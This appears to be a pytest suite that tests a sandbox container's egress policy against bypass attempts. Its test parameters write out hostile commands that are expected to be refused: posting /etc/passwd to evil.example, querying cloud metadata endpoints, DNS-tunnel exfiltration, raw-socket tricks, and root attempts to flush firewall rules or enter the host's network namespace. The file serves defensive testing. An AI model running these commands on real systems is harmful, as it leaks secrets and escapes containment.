"""The network policy in the running image: programs of the box and the desktop, root among them, against a policy that denies."""

import json
from collections.abc import Callable, Iterator

import pytest

from tests.image.container import Sandbox
from tests.image.egress_peers import EgressHosts
from tests.patience import until

Start = Callable[..., Sandbox]


@pytest.fixture
def hosts(egress_hosts: EgressHosts) -> EgressHosts:
    """One sandbox for all tests here."""
    return egress_hosts


@pytest.fixture
def silent(hosts: EgressHosts) -> Iterator[EgressHosts]:
    """The hosts, of which the witness hears nothing during the test, and the other nothing for a host that is denied."""
    hosts.witness.forget()
    hosts.peer.forget()
    yield hosts
    assert hosts.witness.heard() == []
    assert not [said for said in hosts.peer.heard() if "evil.example" in said]


USERS = pytest.mark.parametrize("user", ["gem", "root"])


@USERS
def test_what_the_policy_allows_is_reached_by_name(hosts: EgressHosts, user: str) -> None:
    assert hosts.run("curl -sS -m 20 http://allowed.example/", user) == "served by peer"
    assert hosts.run("curl -sS -m 20 http://deep.allowed.example/", user) == "served by peer"
    assert hosts.run("curl -skS -m 20 https://tls.example/", user) == "served by peer"
    assert hosts.run("timeout 60 nc ssh.example 2222 </dev/null | head -1", user).strip() == "SSH-2.0-peer"
    assert hosts.run(f"curl -sS -m 20 http://{hosts.peer.address}/", user) == "served by peer"


@USERS
def test_a_denied_name_is_refused_at_once_and_says_why(silent: EgressHosts, user: str) -> None:
    timed = "-w ' %{http_code} %{time_total}'"

    def refused_within_a_second() -> bool:  # one of several, as a busy machine has other things to do
        page, code, seconds = silent.run(f"curl -sS -m 20 {timed} http://evil.example/", user).rsplit(" ", 2)
        assert (page.strip(), code) == ("egress: evil.example:80: GET / is not allowed (default)", "403")
        return float(seconds) < 1

    until(refused_within_a_second)
    assert "access denied" in silent.run("curl -skS -m 20 https://evil.example/", user)
    reset = "import socket, time\nat = time.monotonic()\ns = socket.create_connection(('evil.example', 2222), 20)\n"
    reset += "try: print(s.recv(100))\nexcept OSError as error: print(error)\nprint(time.monotonic() - at < 3)"

    def reset_within_three() -> bool:
        said = silent.run(f'python3 -c "{reset}"', user)
        assert "reset by peer" in said
        return said.endswith("True\n")

    until(reset_within_three)


TRY = """
import os, socket, struct
try:
{body}
    print("WENT THROUGH")
except TimeoutError:
    print("TimeoutError")
except OSError as error:
    print("refused", error)
"""


def python(script: str) -> str:
    """A command line that runs a script, which says if it was refused, and otherwise that its time was over."""
    body = "\n".join(f"    {line}" for line in script.strip().splitlines())
    return f"timeout 60 python3 - <<'PROGRAM'{TRY.replace('{body}', body)}PROGRAM"


CONNECT = """
sock = socket.socket({family}, {kind}, {protocol})
sock.settimeout(20)
{before}
sock.connect(({place!r}, {port}))
sock.sendall(b"GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
said = sock.recv(1000)
if b"served by" not in said:
    raise OSError(said[:100])
"""


def connect(place: str, port: int = 80, **more: str) -> str:
    """A connection by hand."""
    given = {"family": "socket.AF_INET", "kind": "socket.SOCK_STREAM", "protocol": "0", "before": "", "host": "evil.example"} | more
    return python(CONNECT.format(place=place, port=port, **given))


def send(place: str, port: int) -> str:
    """A UDP packet."""
    return python(f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x' * 100, ({place!r}, {port}))")


@USERS
@pytest.mark.parametrize(
    ("attempt", "refusal"),
    [
        pytest.param(
            "curl -sS -m 20 --data-binary @/etc/passwd http://evil.example/", "POST / is not allowed (default)", id="exfiltration"
        ),
        pytest.param("curl -sS -m 20 http://{witness}/", "is not allowed (protected)", id="raw address"),
        pytest.param("curl -skS -m 20 https://{witness}/", "access denied", id="raw address by TLS"),
        pytest.param("curl -sS -m 20 http://[::ffff:{witness}]/", "not allowed", id="mapped address"),
        pytest.param("curl -sS -m 20 --resolve allowed.example:80:{witness} http://allowed.example/", "not allowed", id="resolved by hand"),
        pytest.param(
            "curl -sS -m 20 --connect-to evil.example:80:allowed.example:80 http://evil.example/", "evil.example", id="Host unlike name"
        ),
        pytest.param(
            "curl -skS -m 20 --connect-to evil.example:443:tls.example:443 https://evil.example/", "access denied", id="SNI unlike name"
        ),
        pytest.param("curl -sS -m 20 http://allowed.example:8080/", "not allowed", id="another port"),
        pytest.param("curl -sS -m 20 http://rebound.allowed.example/", "resolves to", id="a name that leads to a private address"),
        pytest.param("curl -sS -m 20 http://169.254.169.254/latest/meta-data/", "protected", id="metadata"),
        pytest.param("curl -sS -m 20 http://metadata.google.internal/", "not allowed", id="metadata by name"),
        pytest.param("curl -sS -m 20 http://{own}:8080/readyz", "not allowed", id="the container's address"),
        pytest.param(connect("{witness}", protocol="262"), "refused", id="MPTCP"),
        pytest.param(connect("{witness}", before="sock.bind(('{witness}', 0))"), "refused", id="foreign source"),
        pytest.param(connect("{witness}", before="sock.setsockopt(socket.SOL_SOCKET, 36, 1)"), "refused", id="marked"),
        pytest.param(
            connect("{witness}", before="sock.setsockopt(socket.SOL_IP, 19, 1); sock.bind(('8.8.8.8', 0))"), "refused", id="transparent"
        ),
        pytest.param(send("{witness}", 123), "refused", id="UDP"),
        pytest.param(send("{witness}", 443), "refused", id="QUIC"),
        pytest.param(send("224.0.0.251", 5353), "refused", id="multicast"),
        pytest.param("ping -c1 -W60 {witness}", "Packet filtered", id="ping"),
        pytest.param(python("socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(b'x', ('{witness}', 0))"), "refused", id="raw IP"),
        pytest.param(python("socket.socket(17, socket.SOCK_RAW, 768)"), "refused", id="raw frames"),
        pytest.param(python("socket.socket(40, socket.SOCK_STREAM).connect((2, 1))"), "refused", id="VSOCK"),
        pytest.param(python("socket.socket(44, socket.SOCK_RAW)"), "refused", id="XDP"),
    ],
)
def test_no_way_around_the_policy_leads_to_the_witness(silent: EgressHosts, user: str, attempt: str, refusal: str) -> None:
    own = silent.sandbox.inspect("{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}")
    silent.expect_refusal(attempt.replace("{witness}", silent.witness.address).replace("{own}", own), user, refusal)


@USERS
@pytest.mark.parametrize("device", ["eth0", "eth0-"])
def test_a_socket_that_is_bound_to_a_device_leads_nowhere(silent: EgressHosts, user: str, device: str) -> None:
    bound = connect(silent.witness.address, before=f"sock.setsockopt(socket.SOL_SOCKET, 25, {device.encode()!r})")
    silent.expect_silence(bound, user)


QUERY = """
import socket, struct, sys
kind = {{"A": 1, "TXT": 16, "AAAA": 28}}["{kind}"]
name = b"".join(bytes([len(part)]) + part.encode() for part in "secret-in-a-name.evil.example".split(".")) + b"\\0"
packet = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">2H", kind, 1)
sock = socket.socket(socket.AF_INET, {socket})
sock.settimeout(30)
sock.connect(("{server}", 53))
sock.send(struct.pack(">H", len(packet)) * {tcp} + packet)
said = sock.recv(1000)[2 * {tcp}:]
print(struct.unpack(">6H", said[:12])[1] & 15, struct.unpack(">6H", said[:12])[3], said[-4:-2].hex())
"""


@USERS
@pytest.mark.parametrize("server", ["{witness}", "8.8.8.8", "127.0.0.11", "1.1.1.1"])
@pytest.mark.parametrize("tcp", [False, True])
def test_dns_is_answered_by_the_egress_process_whatever_server_is_asked(silent: EgressHosts, user: str, server: str, tcp: bool) -> None:
    def ask(kind: str) -> str:
        address = server.format(witness=silent.witness.address)
        query = QUERY.format(kind=kind, server=address, socket="socket.SOCK_STREAM" if tcp else "socket.SOCK_DGRAM", tcp=int(tcp))
        return silent.run(f"python3 - <<'PROGRAM'\n{query}PROGRAM", user).strip()

    assert ask("A") in ("0 1 c612", "0 1 c613")  # an address of 198.18.0.0/15
    assert ask("AAAA").startswith("0 0")
    assert ask("TXT").startswith("4 0")


@pytest.mark.parametrize(
    "attempt",
    [
        "nft flush ruleset",
        "nft add table inet mine",
        "ip route add 8.8.8.8 dev eth0-",
        "ip route del default",
        "ip rule add from all lookup 5",
        "ip addr add 1.2.3.4/32 dev lo",
        "ip link set eth0 down",
        "ip link del eth0",
        "ip link add mine type veth peer name other",
        "ip link add link eth0 mine type macvlan",
        "ip neigh add 198.18.0.9 lladdr 02:00:00:00:00:01 dev eth0",
        "tc qdisc add dev eth0 root netem delay 1ms",
        "ip xfrm state flush",
        "sysctl -w net.ipv4.ip_forward=1",
        "sh -c 'echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet'",
        "mount -t proc proc /mnt",
        "mount -t sysfs sysfs /mnt",
        "mount -o remount,rw /proc/sys",
        "nsenter --net=/proc/1/ns/net true",
        "nsenter --target 1 --net true",
        "nsenter --target 1 --user --net true",
        "sh -c 'for each in /proc/[0-9]*; do nsenter --net=$each/ns/net true && exit 0; done; exit 1'",
        "unshare --net sh -c 'ip link add a type veth peer name b && ip link set b netns 1'",
    ],
)
def test_root_in_the_box_has_no_rights_over_its_network(silent: EgressHosts, attempt: str) -> None:
    done = silent.sandbox.run("bash", "-c", f"export PATH=$PATH:/usr/sbin:/sbin; {attempt}", user="root")
    assert done.code != 0, done.stdout
    assert "not found" not in done.stderr
    assert silent.run("curl -sS -m 20 http://allowed.example/") == "served by peer"


LISTENERS = """
import socket, time
open_ones = [socket.create_server(("127.0.0.1", 7777)), socket.create_server(("0.0.0.0", 7778))]
abstract = socket.socket(socket.AF_UNIX)
abstract.bind(chr(0) + "outside")
abstract.listen()
open("/tmp/listening", "w").close()
time.sleep(600)
"""


@USERS
def test_the_containers_own_loopback_and_abstract_sockets_are_out_of_reach(silent: EgressHosts, user: str) -> None:
    sandbox = silent.sandbox
    if sandbox.exec("test", "-e", "/tmp/listening").code != 0:
        sandbox.exec("sh", "-c", f"python3 -c '{LISTENERS}' >/dev/null 2>&1 &")
        until(lambda: sandbox.exec("test", "-e", "/tmp/listening").code == 0)
    for place, port in (("127.0.0.1", 7777), ("127.0.0.1", 7778), ("0.0.0.0", 7778)):
        assert "refused" in silent.run(connect(place, port), user)
    assert "refused" in silent.run(python("socket.socket(socket.AF_UNIX).connect(chr(0) + 'outside')"), user)


def test_the_gateway_is_reached_from_the_box(hosts: EgressHosts) -> None:
    assert json.loads(hosts.run("curl -sS -m 20 http://127.0.0.1:8080/readyz"))["status"] == "ready"
    assert json.loads(hosts.run("curl -sS -m 20 http://localhost:8080/readyz"))["status"] == "ready"


@USERS
def test_a_server_in_the_box_is_reached_there_by_every_name_of_its_own(hosts: EgressHosts, user: str) -> None:
    script = """
cd "$(mktemp -d)"; echo mine > page; python3 -m http.server 3456 --bind 0.0.0.0 >/dev/null 2>&1 & server=$!
for place in 127.0.0.1 localhost 0.0.0.0 198.18.0.1 "$(hostname)"; do
  curl -s -m 10 --retry 20 --retry-connrefused --retry-delay 1 "http://$place:3456/page"
done; kill $server
"""
    assert hosts.run(script, user).split() == ["mine"] * 5


def read_page(sandbox: Sandbox, url: str) -> str:
    """What Chromium shows of a page."""
    sandbox.request("POST", "/v1/browser/page/navigate", json={"url": url})
    answer = sandbox.request("POST", "/v1/browser/page/evaluate", json={"expression": "document.body.innerText + ' ' + navigator.onLine"})
    return str(answer.json()["data"])


def test_chromium_goes_the_same_way(silent: EgressHosts) -> None:
    assert "served by peer" in (shown := read_page(silent.sandbox, "http://allowed.example/"))
    assert "true" in shown.lower()
    assert "egress: evil.example:80: GET / is not allowed (default)" in read_page(silent.sandbox, "http://evil.example/")
    assert "served by" not in read_page(silent.sandbox, "https://evil.example/")
    assert "is not allowed" in read_page(silent.sandbox, f"http://{silent.witness.address}/")


def test_chromium_hides_no_name(hosts: EgressHosts) -> None:
    written = json.loads(hosts.sandbox.exec("cat", "/etc/chromium/policies/managed/tandem.json").stdout)
    assert written["DnsOverHttpsMode"] == "off"
    assert written["EncryptedClientHelloEnabled"] is False
    assert written["QuicAllowed"] is False


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/v1/shell/exec", {"command": "curl -sS -m 20 http://evil.example/"}),
        ("/v1/nodejs/execute", {"code": "fetch('http://evil.example/').then((r) => r.text()).then(console.log)"}),
        ("/v1/jupyter/execute", {"code": "import urllib.request, urllib.error\ntry: urllib.request.urlopen('http://evil.example/')\n"
                                 "except urllib.error.HTTPError as e: print(e.read().decode())"}),
    ],
)  # fmt: skip
def test_every_way_to_run_a_program_is_under_the_policy(silent: EgressHosts, path: str, body: dict[str, str]) -> None:
    answer = silent.sandbox.request("POST", path, json=body)
    assert "egress: evil.example:80: GET / is not allowed" in answer.text, answer.text


def test_a_network_allowed_to_one_command_alone_is_no_way_out(silent: EgressHosts) -> None:
    """Both policies hold: that of the command, and that of the box."""
    isolation = {"network": {"allowed_domains": ["evil.example", "allowed.example"]}}

    def fetch(name: str) -> str:
        body = {"command": f"curl -sS -m 20 http://{name}/", "isolation": isolation}
        return silent.sandbox.request("POST", "/v1/bash/exec", json=body).text

    assert "served by peer" in fetch("allowed.example")
    assert "served by" not in fetch("evil.example")


def test_the_same_holds_after_the_box_was_killed_and_after_a_restore(silent: EgressHosts) -> None:
    sandbox = silent.sandbox
    made = sandbox.request("POST", "/v1/checkpoints", json={"label": "here"}).json()["data"]
    network = silent.run("readlink /proc/self/ns/net", "gem")
    silent.run("kill -9 -1")

    def says(command: str) -> str:
        """What a command says, or why it does not run: the box may be on its way."""
        return sandbox.request("POST", "/v1/bash/exec", json={"command": command}).text

    until(lambda: network.strip() in says("readlink /proc/self/ns/net"))
    identity = made.get("id") or made["checkpoint"]["id"]
    assert sandbox.request("POST", f"/v1/checkpoints/{identity}/restore", json={}).status_code == 200
    until(lambda: "served by peer" in says("curl -sS -m 20 http://allowed.example/"))
    assert silent.run("readlink /proc/self/ns/net", "gem") == network
    assert "is not allowed" in silent.run("curl -sS -m 20 http://evil.example/")
